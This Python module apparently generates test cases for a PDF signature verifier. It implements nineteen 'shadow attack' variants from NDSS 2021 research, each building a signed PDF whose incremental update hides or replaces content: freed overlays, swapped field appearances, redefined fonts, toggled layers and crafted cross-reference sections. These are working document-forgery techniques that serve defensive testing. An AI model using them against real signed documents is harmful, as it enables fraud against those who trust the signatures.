"""Shadow attacks (NDSS 2021): the author hides in the document what an update brings to light."""

from attacks.victim import (
    CATALOG,
    CONTENTS,
    FONT,
    FORM,
    NEW,
    NUMBER,
    NUMBER_LOOK,
    OVER_TEXT,
    PAGE,
    PAGES,
    Victim,
    name,
    painted,
    refs,
    text_field,
)
from attacks.writer import append, look, stream, write_objects, write_table
from verification._pdf.objects import Ref

COVER = stream(
    b"\xff",
    b"/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8",
)
NUMBER_BOX = b"110 740 150 755"


def hide_by_layer(victim: Victim) -> bytes:
    """Hide: an image lies over the text when signed; the update frees it."""
    page = victim.page(Contents=refs(CONTENTS, NEW))
    drawn = stream(b"q 595 0 0 842 0 0 cm /X Do Q")
    own = {PAGE: page, NEW: drawn, NEW + 1: COVER}
    return append(victim.lead(victim.prepare(own)), {}, free=(NEW + 1,))


def hide_by_image(victim: Victim) -> bytes:
    """Hide: the image over the text becomes another kind of object."""
    own = {PAGE: victim.page(Contents=refs(CONTENTS, NEW)), NEW: stream(b"/X Do"), NEW + 1: COVER}
    return append(victim.lead(victim.prepare(own)), {NEW + 1: b"<</Type/XObject>>"})


def hide_by_page_object(victim: Victim) -> bytes:
    """Hide: the layer of the page's contents is written anew and empty."""
    own = {PAGE: victim.page(Contents=refs(CONTENTS, NEW)), NEW: painted()}
    return append(victim.lead(victim.prepare(own)), {NEW: stream(b"")})


def hide_by_optional_content(victim: Victim) -> bytes:
    """Hide: a layer that was switched on is switched off."""
    layers = b"<</OCGs[201 0 R]/D<</ON[201 0 R]/OFF[]>>>>"
    own = {
        CATALOG: victim.catalog(OCProperties=Ref(NEW, 0)),
        NEW: layers,
        NEW + 1: b"<</Type/OCG/Name(layer)>>",
    }
    off = layers.replace(b"/ON[201 0 R]/OFF[]", b"/ON[]/OFF[201 0 R]")
    return append(victim.lead(victim.prepare(own)), {NEW: off})


def replace_by_overlay(victim: Victim) -> bytes:
    """Replace: a text field that shows one value when signed shows another."""
    first = b"/V(1.000)/AP<</N %d 0 R>>" % NUMBER_LOOK
    own = {NUMBER: text_field(b"docsvc.number", NUMBER_BOX, first), NUMBER_LOOK: look(b"BT ET")}
    second = b"/V(9.000)/AP<</N %d 0 R>>" % NEW
    pdf = victim.lead(victim.prepare(own))
    return append(pdf, {NUMBER: text_field(b"docsvc.number", NUMBER_BOX, second), NEW: painted()})


def replace_look_alone(victim: Victim) -> bytes:
    """Replace: a text field keeps its value, but what it shows is another."""
    first = b"/V(1.000)/AP<</N %d 0 R>>"
    own = {
        NUMBER: text_field(b"docsvc.number", NUMBER_BOX, first % NUMBER_LOOK),
        NUMBER_LOOK: look(b"BT ET"),
    }
    pdf = victim.lead(victim.prepare(own))
    update = {NUMBER: text_field(b"docsvc.number", NUMBER_BOX, first % NEW), NEW: look(b"0 0 m")}
    return append(pdf, update)


def replace_look_in_place(victim: Victim) -> bytes:
    """Replace: the appearance of a field with a value is written anew in its place."""
    first = b"/V(1.000)/AP<</N %d 0 R>>" % NUMBER_LOOK
    own = {NUMBER: text_field(b"docsvc.number", NUMBER_BOX, first), NUMBER_LOOK: look(b"BT ET")}
    return append(victim.lead(victim.prepare(own)), {NUMBER_LOOK: painted()})


def replace_by_font(victim: Victim) -> bytes:
    """Replace: the font of a field is defined anew, its value stays."""
    own = {NEW: victim.entry(FONT), FORM: victim.form(more=b"/DR<</Font<</Own 200 0 R>>>>")}
    pdf = victim.lead(victim.prepare(own))
    return append(pdf, {NEW: victim.entry(FONT, FirstChar=1, BaseFont=name("Evil"))})


def replace_by_default_resources(victim: Victim) -> bytes:
    """Replace: a name that fields use is given another font in the form's resources."""
    own = {FORM: victim.form(more=b"/DR<</Font<</Own 7 0 R>>>>")}
    pdf = victim.lead(victim.prepare(own))
    return append(pdf, {FORM: victim.form(more=b"/DR<</Font<</Own 8 0 R>>>>")})


def replace_by_default_picture(victim: Victim) -> bytes:
    """Replace: a signed look draws what the form's resources hold under a name, and it changes."""
    field = text_field(b"docsvc.number", NUMBER_BOX, b"/V(1)/AP<</N %d 0 R>>" % NUMBER_LOOK)
    more = b"/DR<</XObject<</Own %d 0 R>>>>"
    own = {
        FORM: victim.form(more=more % NEW),
        NEW: look(b"BT ET"),
        NUMBER: field,
        NUMBER_LOOK: look(b"/Own Do"),
    }
    pdf = victim.lead(victim.prepare(own))
    return append(pdf, {FORM: victim.form(more=more % (NEW + 1)), NEW + 1: painted()})


def replace_by_font_of_reader(victim: Victim) -> bytes:
    """Replace: readers that draw the fields themselves are given a font that was missing."""
    own = {
        FORM: victim.form(more=b"/NeedAppearances true"),
        NUMBER: text_field(b"docsvc.number", NUMBER_BOX, b"/V(1)"),
    }
    pdf = victim.lead(victim.prepare(own))
    more = b"/NeedAppearances true/DR<</Font<</F1+0 200 0 R>>>>"
    return append(pdf, {FORM: victim.form(more=more), NEW: victim.entry(FONT)})


def replace_by_colour_of_reader(victim: Victim) -> bytes:
    """Replace: readers that draw the fields themselves are told to draw in white."""
    more = b"/NeedAppearances true/DA(/F1+0 9 Tf %d g)"
    pdf = victim.lead(victim.prepare({FORM: victim.form(more=more % 0)}))
    return append(pdf, {FORM: victim.form(more=more % 1)})


def replace_by_reader(victim: Victim) -> bytes:
    """Replace: readers are told to draw all fields themselves."""
    return append(victim.led, {FORM: victim.form(more=b"/NeedAppearances true")})


def field_as_resource(victim: Victim) -> bytes:
    """Replace: a field is the page's dictionary of pictures, too, and its look becomes one."""
    page = victim.page(Resources={"Font": Ref(6, 0), "XObject": Ref(NUMBER, 0)})
    own = {PAGE: page, CONTENTS: stream(b"/AP Do")}
    pdf = victim.lead(victim.prepare(own))
    filled = text_field(b"docsvc.number", NUMBER_BOX, b"/V(1)/AP %d 0 R" % NEW)
    return append(pdf, {NUMBER: filled, NEW: painted()})


def button_as_curtain(victim: Victim) -> bytes:
    """Replace: a button without value is given the picture of another page."""
    button = text_field(b"curtain", OVER_TEXT).replace(b"/FT/Tx", b"/FT/Btn/Ff 65536")
    own = {NEW: button, PAGE: victim.page(NEW), FORM: victim.form(NEW)}
    pdf = victim.lead(victim.prepare(own))
    return append(pdf, {NEW: button[:-2] + b"/AP<</N 201 0 R>>>>", NEW + 1: painted()})


def hide_and_replace_by_table(victim: Victim) -> bytes:
    """Hide and replace: a second object of the same number waits in the signed bytes."""
    prepared = victim.prepare()
    waiting, places = write_objects(prepared, {CONTENTS: stream(b"BT ET")})
    pdf = victim.lead(waiting)
    return write_table(pdf, places)


def hide_and_replace_by_section(victim: Victim) -> bytes:
    """Hide and replace: a whole section waits in the signed bytes, and is made the newest."""
    waiting = append(victim.prepare(), {PAGE: victim.page(Contents=None)})
    offset = waiting.rindex(b"xref\ntrailer") if b"xref\ntrailer" in waiting else 0
    offset = offset or int(waiting.rsplit(b"startxref\n", 1)[1].split()[0])
    back = int(victim.prepare().rsplit(b"startxref\n", 1)[1].split()[0])
    hidden = waiting + b"startxref\n%d\n%%%%EOF\n" % back
    return victim.lead(hidden) + b"startxref\n%d\n%%%%EOF\n" % offset


def hide_and_replace_by_missing(victim: Victim) -> bytes:
    """Hide and replace: a reference leads to nowhere when signed, and to a layer afterwards."""
    own = {PAGE: victim.page(Contents=refs(CONTENTS, NEW))}
    return append(victim.lead(victim.prepare(own)), {NEW: painted()})


def hide_and_replace_by_packing(victim: Victim) -> bytes:
    """Hide and replace: an object stream that nobody uses replaces the tree of pages."""
    tree = victim.entry(PAGES, Kids=refs(NEW))
    own = {NEW: victim.entry(PAGE, Contents=None), NEW + 1: tree}
    pdf = victim.lead(victim.prepare(own))
    return append(pdf, {PAGES: tree})


ATTACKS = {
    "shadow-hide-layer-freed": hide_by_layer,
    "shadow-hide-image-retyped": hide_by_image,
    "shadow-hide-layer-emptied": hide_by_page_object,
    "shadow-hide-optional-content": hide_by_optional_content,
    "shadow-replace-field-value": replace_by_overlay,
    "shadow-replace-field-look": replace_look_alone,
    "shadow-replace-field-look-in-place": replace_look_in_place,
    "shadow-replace-font": replace_by_font,
    "shadow-replace-default-resources": replace_by_default_resources,
    "shadow-replace-default-picture": replace_by_default_picture,
    "shadow-replace-font-of-reader": replace_by_font_of_reader,
    "shadow-replace-colour-of-reader": replace_by_colour_of_reader,
    "shadow-replace-need-appearances": replace_by_reader,
    "shadow-replace-field-as-resource": field_as_resource,
    "shadow-replace-button": button_as_curtain,
    "shadow-both-table": hide_and_replace_by_table,
    "shadow-both-section": hide_and_replace_by_section,
    "shadow-both-missing-object": hide_and_replace_by_missing,
    "shadow-both-page-tree": hide_and_replace_by_packing,
}
